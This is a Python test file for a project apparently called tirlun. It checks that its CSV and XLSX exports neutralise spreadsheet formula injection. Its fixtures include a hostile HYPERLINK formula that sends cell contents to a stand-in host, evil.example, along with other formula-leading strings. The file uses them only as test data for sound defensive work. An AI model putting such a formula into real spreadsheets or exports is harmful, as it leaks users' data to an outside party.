"""No writer hands a spreadsheet a formula (OWASP CSV injection), and the value stays readable.

Hostile names are loaded into a real graph and come out of every writer: the app's shown-rows
and full-list CSV downloads (views.tables.table and full_csv), `tirlun query run --format csv`,
the templates (CSV and XLSX, loader/template.py) and the region export (loader/export.py).
Expected cells are written by hand: text starting = + - @ tab or CR gets one leading apostrophe;
numbers (negative ones too) and other text are untouched.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import streamlit
from click.testing import CliRunner
from streamlit.runtime.download_data_util import convert_data_to_bytes_and_infer_mime

from tirlun import cli
from tirlun.answers.base import csv_cell
from tirlun.database import Database
from tirlun.loader.template import write_csv_templates, write_workbook

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE = [LINK, "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
# Names that survive loading (the loader trims a leading tab or CR away, as it trims spaces).
IN_GRAPH = HOSTILE[:5]
SAFE = {v: "'" + v for v in IN_GRAPH}  # what a CSV cell must read, worked out by hand


@pytest.mark.parametrize(("value", "expected"), [
    (LINK, "'" + LINK), ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("Cwm Taf Morgannwg", "Cwm Taf Morgannwg"), ("a=b", "a=b"), ("", ""), (-5, -5), (2.5, 2.5), (None, None),
])
def test_csv_cell(value: Any, expected: Any) -> None:
    assert csv_cell(value) == expected


def _orgs() -> dict[str, list[dict[str, Any]]]:
    orgs = [{"id": f"h{i}", "name_en": name, "sector": "third_sector", "org_type": "third_sector_organisation"}
            for i, name in enumerate(IN_GRAPH)]
    return {
        "areas": [{"id": "wales", "name_en": "Wales", "name_cy": "Cymru", "kind": "nation"},
                  {"id": "r", "name_en": "Region", "name_cy": "Rhanbarth", "kind": "region", "parent_id": "wales"}],
        "organisations": [*orgs, {"id": "plain", "name_en": "Plain Org", "sector": "third_sector", "org_type": "third_sector_organisation"}],
        "partnerships": [{"id": "b", "name_en": "Board", "kind": "other", "level": "board", "areas": "r"}],
        "memberships": [{"organisation_id": o["id"], "partnership_id": "b"} for o in orgs]
                       + [{"organisation_id": "plain", "partnership_id": "b"}],
    }


@pytest.fixture
def hostile(load_tables: Callable[..., Database]) -> Database:
    return load_tables(_orgs(), region="r")


def _names_in(text: str, column: str) -> set[str]:
    return {row[column] for row in csv.DictReader(io.StringIO(text, newline=""))}


def test_cli_query_run_csv(hostile: Database, test_env: dict[str, str]) -> None:
    result = CliRunner().invoke(cli.main, ["query", "run", "app_entities", "--param", "kind=organisation",
                                           "--param", "region=r", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert _names_in(result.stdout, "name_en") == set(SAFE.values()) | {"Plain Org"}


def test_full_csv_download(hostile: Database) -> None:
    from tirlun.views import tables

    rows = hostile.read("app_entities", {"kind": "organisation", "region": "r", "limit": None})
    made = tables.full_csv(lambda: iter(rows), {"name_en": "col.name"}, lang="en")()
    # What Streamlit does with a download button's callable on a click: anything it cannot turn into bytes fails
    # there ("Callable returned unsupported type", as every "Download every row" button once did on 1.67).
    data, _ = convert_data_to_bytes_and_infer_mime(made, unsupported_error=AssertionError(type(made)))
    text = data.decode("utf-8")
    body = text.split("\r\n", 1)[1]  # after the header row
    assert {r[0] for r in csv.reader(io.StringIO(body, newline=""))} == set(SAFE.values()) | {"Plain Org"}


def test_shown_rows_download(hostile: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    """The 'rows shown' button gets its bytes from tables.table: capture what it is handed."""
    from tirlun.views import tables

    handed: list[bytes] = []

    def capture(label: str, data: Any, **kwargs: Any) -> None:
        if isinstance(data, bytes):
            handed.append(data)

    monkeypatch.setattr(streamlit, "download_button", capture)  # the module views.tables calls
    rows = hostile.read("app_entities", {"kind": "organisation", "region": "r"})
    tables.table(pd.DataFrame(rows)[["name_en", "active_count"]], "hostile", show=False)
    assert len(handed) == 1
    assert _names_in(handed[0].decode("utf-8"), "name_en") == set(SAFE.values()) | {"Plain Org"}


def test_region_export_csv_and_workbook_are_inert_and_round_trip(hostile: Database, tmp_path: Path) -> None:
    from tirlun.loader.export import export_region
    from tirlun.loader.read import read_input

    export_region(hostile, "r", tmp_path / "out")
    text = (tmp_path / "out" / "organisations.csv").read_text(encoding="utf-8")
    assert _names_in(text, "name_en") == set(SAFE.values()) | {"Plain Org"}
    book = tmp_path / "out.xlsx"
    export_region(hostile, "r", book)
    _assert_no_formulas(book)
    for path in (tmp_path / "out", book):  # read back: the names as they were
        raw = read_input(path)
        assert {cells["name_en"] for _, cells in raw.tables["organisations"].rows} == set(IN_GRAPH) | {"Plain Org"}


def _assert_no_formulas(book: Path) -> None:
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_workbook_writer_types_text_as_text(tmp_path: Path) -> None:
    import openpyxl

    columns = 3
    book = write_workbook(tmp_path / "in.xlsx", {"organisations": [["h1", v, "charity"] for v in HOSTILE]})
    _assert_no_formulas(book)
    ws = openpyxl.load_workbook(book)["organisations"]
    cells = [[c.value for c in row][:columns] for row in ws.iter_rows(min_row=2)]
    # Read back exactly, never evaluated (XML stores a CR as a line feed: not a formula matter).
    assert [c[1] for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]


def test_csv_templates_hold_no_formula(tmp_path: Path) -> None:
    for path in write_csv_templates(tmp_path / "t"):
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), (path.name, row)


def test_template_workbook_holds_no_formula(tmp_path: Path) -> None:
    _assert_no_formulas(write_workbook(tmp_path / "t.xlsx"))
